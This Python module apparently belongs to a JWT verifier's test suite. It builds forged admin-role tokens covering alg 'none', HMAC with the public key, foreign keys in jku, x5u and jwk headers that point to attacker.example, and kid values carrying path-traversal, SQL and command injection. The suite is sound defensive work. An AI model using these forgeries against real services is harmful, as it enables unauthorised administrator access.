"""Tokens whose header lies about how they are signed, or brings its own key.

Sources: RFC 8725 (2.1, 3.1: algorithm confusion), CVE-2015-9235 (alg none; HMAC with a public key), CVE-2018-0114
(embedded jwk), RFC 7515 4.1.11 (crit), RFC 7797 (b64).
"""

import json
from collections.abc import Iterator

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from rayfence.model.routes import Role
from rayfence.verify.attack import Attack
from rayfence.verify.jws import Json, b64, hmac_token, signing_input
from rayfence.verify.scene import Scene
from rayfence.verify.tokens.target import Row, bearer_attacks

_NONES = ("none", "None", "NONE", "nOnE", "")


def algorithm_attacks(scene: Scene) -> tuple[Attack, ...]:
    """All of them. They claim the highest role: what is forged may as well be worth it."""
    claims = scene.claims("forged", role=Role.ADMIN)
    rows = (
        *_unsigned(scene, claims),
        *_shared_secret(scene, claims),
        *_mislabelled(scene, claims),
        *_own_keys(scene, claims),
        *_key_ids(scene, claims),
        *_extensions(scene, claims),
    )
    return bearer_attacks(scene, rows)


def _unsigned(scene: Scene, claims: Json) -> Iterator[Row]:
    kid = scene.signer.kid
    for number, name in enumerate(_NONES):
        header = {"alg": name, "kid": kid, "typ": "JWT"}
        yield f"alg-none-{number}", f"{signing_input(header, claims)}.", f"no signature, alg {name!r}"
    right = scene.signer.token(claims).rpartition(".")[2]
    header = {"alg": "none", "kid": kid}
    yield "alg-none-signed", f"{signing_input(header, claims)}.{right}", "alg none with a signature at its side"
    for label, value in (("null", None), ("number", 256), ("list", ["ES256"])):
        text = json.dumps({"alg": value, "kid": kid})
        yield f"alg-{label}", scene.signer.token(claims, text), f"alg is {value!r}"
    yield "alg-missing", scene.signer.token(claims, {"kid": kid}), "no alg"
    twice = f'{{"alg":"none","alg":"ES256","kid":"{kid}"}}'
    yield "alg-twice", f"{signing_input(twice, claims)}.", "alg none and ES256 in one header, no signature"


def _shared_secret(scene: Scene, claims: Json) -> Iterator[Row]:
    signer = scene.signer
    jwk = signer.public_jwk()
    secrets = {
        "pem": signer.public_pem(),
        "pem-stripped": signer.public_pem().strip(),
        "der": signer.public_der(),
        "jwk": json.dumps(jwk).encode(),
        "jwk-compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "jwks": json.dumps({"keys": [jwk]}).encode(),
        "point": signer.public_point(),
        "x": str(jwk["x"]).encode(),
        "empty": b"",
        "ray-token": scene.ray_token.encode(),
        "issuer": scene.settings.issuer.encode(),
    }
    for name, secret in secrets.items():
        token = hmac_token(secret, claims, {"alg": "HS256", "kid": signer.kid, "typ": "JWT"})
        yield f"hs256-{name}", token, f"HMAC with a secret that is none: {name}"
    for digest in ("sha384", "sha512"):
        header = {"alg": f"HS{digest[3:]}", "kid": signer.kid}
        yield f"hs{digest[3:]}-pem", hmac_token(signer.public_pem(), claims, header, digest), "HMAC with the public key"


def _mislabelled(scene: Scene, claims: Json) -> Iterator[Row]:
    for name in ("ES384", "ES512", "ES256K", "RS256", "PS256", "EdDSA", "es256", "HS256"):
        header = {**scene.signer.header(), "alg": name}
        yield (
            f"label-{name.lower()}{'-lower' if name.islower() else ''}",
            scene.signer.token(claims, header),
            (f"a right ES256 signature that calls itself {name}"),
        )


def _own_keys(scene: Scene, claims: Json) -> Iterator[Row]:
    evil, kid = scene.stranger, scene.signer.kid
    yield "other-key", evil.token(claims, {"alg": "ES256", "kid": kid}), "signed by a stranger under our key's id"
    curves: tuple[tuple[str, ec.EllipticCurve, hashes.HashAlgorithm], ...] = (
        ("ES384", ec.SECP384R1(), hashes.SHA384()),
        ("ES512", ec.SECP521R1(), hashes.SHA512()),
        ("ES256K", ec.SECP256K1(), hashes.SHA256()),
    )
    for name, curve, digest in curves:
        signed = signing_input({"alg": name, "kid": kid}, claims)
        signature = ec.generate_private_key(curve).sign(signed.encode(), ec.ECDSA(digest))
        yield f"curve-{name.lower()}", f"{signed}.{b64(signature)}", f"a stranger's key on another curve ({name})"
    jwk = evil.public_jwk()
    embedded: dict[str, dict[str, object]] = {
        "jwk": {"jwk": jwk},
        "jwk-our-kid": {"jwk": {**jwk, "kid": kid}, "kid": kid},
        "jku": {"jku": "https://attacker.example/keys.json", "kid": evil.kid},
        "jku-file": {"jku": f"file://{scene.settings.jwks}", "kid": kid},
        "x5u": {"x5u": "https://attacker.example/cert.pem", "kid": evil.kid},
        "x5c": {"x5c": [evil.public_der().hex()], "kid": kid},
        "x5t": {"x5t": b64(b"\0" * 20), "kid": kid},
    }
    for name, extra in embedded.items():
        yield (
            f"header-{name}",
            evil.token(claims, {"alg": "ES256", "typ": "JWT", **extra}),
            (f"a stranger's key, offered in the header ({name})"),
        )


def _key_ids(scene: Scene, claims: Json) -> Iterator[Row]:
    signer, evil = scene.signer, scene.stranger
    yield "kid-missing", evil.token(claims, {"alg": "ES256"}), "a stranger's signature without a key id"
    yield "kid-unknown", signer.token(claims, {"alg": "ES256", "kid": "unknown"}), "our key under an id we don't have"
    yield "kid-empty", evil.token(claims, {"alg": "ES256", "kid": ""}), "a stranger's signature, empty key id"
    for name, value in (("path", "../../../../dev/null"), ("sql", "' UNION SELECT 'x"), ("command", "|id")):
        secret = hmac_token(b"", claims, {"alg": "HS256", "kid": value})
        yield f"kid-{name}", secret, f"a key id that is a {name}, signed with nothing"
    yield "kid-number", signer.token(claims, {"alg": "ES256", "kid": 1}), "a key id that is a number"


def _extensions(scene: Scene, claims: Json) -> Iterator[Row]:
    signer = scene.signer
    header = signer.header()
    yield (
        "crit-unknown",
        signer.token(claims, {**header, "crit": ["x-unknown"], "x-unknown": 1}),
        ("a critical header that nobody here understands"),
    )
    # RFC 7797: with b64 false the payload is signed as it stands.
    plain = json.dumps(claims, separators=(",", ":"))
    head = b64(json.dumps({**header, "b64": False, "crit": ["b64"]}).encode())
    signature = b64(signer.signature(f"{head}.{plain}"))
    yield "b64-false", f"{head}.{b64(plain.encode())}.{signature}", "an unencoded payload (b64: false)"
    yield "zip", signer.token(claims, {**header, "zip": "DEF", "crit": ["zip"]}), "a compressed payload, it says"
    # The instance's own signature over a token that wraps a token: only the outer one may be read.
    inner = scene.stranger.token(claims, {"alg": "ES256", "kid": signer.kid})
    yield "nested", signer.token(inner, {**header, "cty": "JWT"}), "a token inside a token"
    encrypted = b64(b'{"alg":"ECDH-ES","enc":"A128GCM"}')
    yield "jwe", f"{encrypted}..{b64(b'x' * 12)}.{b64(plain.encode())}.{b64(b'x' * 16)}", "an encrypted token (JWE)"
